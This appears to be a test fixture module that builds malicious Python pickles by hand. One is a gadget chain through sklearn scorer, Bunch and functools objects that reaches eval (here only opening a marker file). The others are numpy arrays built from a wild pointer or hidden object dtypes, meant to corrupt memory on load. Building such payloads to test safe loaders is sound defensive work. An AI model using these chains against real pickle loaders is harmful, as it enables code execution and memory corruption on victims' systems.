"""Pickles put together word by word, as an attacker would; Python's own pickler writes none."""

import pickle
from pathlib import Path

EMPTY = pickle.EMPTY_DICT
NONE = pickle.NONE

PARTIAL = ("functools", "partial")
BUNCH = ("sklearn.utils._bunch", "Bunch")


def whole(*words: bytes) -> bytes:
    return pickle.PROTO + b"\x04" + b"".join(words) + pickle.STOP


def text(value: str) -> bytes:
    return pickle.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()


def raw(value: bytes) -> bytes:
    return pickle.BINBYTES + len(value).to_bytes(4, "little") + value


def number(value: int) -> bytes:
    return pickle.BININT + value.to_bytes(4, "little", signed=True)


def named(module: str, name: str) -> bytes:
    return text(module) + text(name) + pickle.STACK_GLOBAL


def several(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def by_name(**items: bytes) -> bytes:
    return pickle.MARK + b"".join(text(name) + item for name, item in items.items()) + pickle.DICT


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + several(*arguments) + pickle.REDUCE


def fill(target: bytes, state: bytes) -> bytes:
    return target + state + pickle.BUILD


def with_attributes(target: bytes, **attributes: bytes) -> bytes:
    """Set attributes by ``setattr``, of whatever it is."""
    return fill(target, several(NONE, by_name(**attributes)))


def partial(function: bytes, by_names: bytes) -> bytes:
    """Make a ``functools.partial`` that passes a dict by names."""
    empty = call(named(*PARTIAL), function)
    return fill(empty, several(function, pickle.EMPTY_TUPLE, by_names, NONE))


def evaluation_by_listed_names(marker: Path) -> bytes:
    """Lead from names of the list to ``eval``.

    A scorer calls the method of a given name. ``__getattribute__`` of a function gives its
    globals, these the builtins, and a Bunch of them has ``eval`` as a method. A class whose
    multiplication was replaced hands the scorer's result out.
    """
    fold = named("sklearn.model_selection._split", "KFold")
    hands_out = with_attributes(
        fold,
        __mul__=named("collections", "OrderedDict"),
        __gt__=named("builtins", "complex"),
    )
    tags = partial(named(*BUNCH), by_name(estimator_type=text("regressor")))
    function = named("sklearn.metrics._classification", "accuracy_score")
    scope = _called_by_a_scorer(
        "__getattribute__", with_attributes(function, __sklearn_tags__=tags), "__globals__"
    )
    builtins = _called_by_a_scorer(
        "__getitem__", with_attributes(scope, __sklearn_tags__=tags), "__builtins__"
    )
    with_tags = builtins + text("__sklearn_tags__") + tags + pickle.SETITEM
    bunch = call(partial(named(*BUNCH), with_tags))
    evaluated = _called_by_a_scorer("eval", bunch, f"open({str(marker)!r}, 'w')")
    return whole(hands_out, pickle.POP, evaluated)


def _called_by_a_scorer(method: str, target: bytes, argument: str) -> bytes:
    scorer = partial(
        named("sklearn.metrics._scorer", "_Scorer"),
        by_name(
            score_func=named("collections", "defaultdict"),
            sign=call(named("sklearn.model_selection._split", "KFold")),
            kwargs=EMPTY,
            response_method=text(method),
        ),
    )
    return call(call(scorer), target, text(argument), NONE)


OBJECT = call(named("numpy", "dtype"), text("O"))
WILD_POINTER = raw((0x41414141).to_bytes(8, "little"))
_EMPTY_ARRAY = call(
    named("numpy._core.multiarray", "_reconstruct"),
    named("numpy", "ndarray"),
    several(number(0)),
    raw(b"b"),
)
_VOID = call(named("numpy", "dtype"), text("V8"), pickle.NEWFALSE, pickle.NEWTRUE)


def _structure(dtype: bytes, offset: int) -> bytes:
    """Give the state of a type with one field, whose flags hide what is in it."""
    fields = by_name(a=several(dtype, number(offset)))
    flags = number(0)
    return several(
        number(3), text("|"), NONE, several(text("a")), fields, number(8), number(1), flags
    )


def _array(dtype: bytes) -> bytes:
    state = several(number(1), several(number(1)), dtype, pickle.NEWFALSE, WILD_POINTER)
    return fill(_EMPTY_ARRAY, state)


WILD_ARRAYS = {
    "a buffer as objects": whole(
        call(named("numpy", "ndarray"), several(number(1)), OBJECT, WILD_POINTER)
    ),
    "objects hidden by flags": whole(_array(fill(_VOID, _structure(OBJECT, 0)))),
    "objects hidden in a buffer": whole(
        call(
            named("numpy._core.numeric", "_frombuffer"),
            WILD_POINTER,
            fill(_VOID, _structure(OBJECT, 0)),
            several(number(1)),
            text("C"),
        )
    ),
    "a type that changes later": whole(
        _array(_VOID + pickle.MEMOIZE),
        fill(pickle.BINGET + b"\0", _structure(OBJECT, 0)),
        pickle.POP,
    ),
    "a field far outside": whole(
        _array(fill(_VOID, _structure(call(named("numpy", "dtype"), text("f8")), 10**8)))
    ),
    "a structure of objects from bytes": whole(
        call(
            named("numpy._core.multiarray", "scalar"),
            call(named("numpy", "dtype"), text("O,O")),
            _array(_VOID),
        )
    ),
}
"""Arrays whose elements lie where the attacker says."""
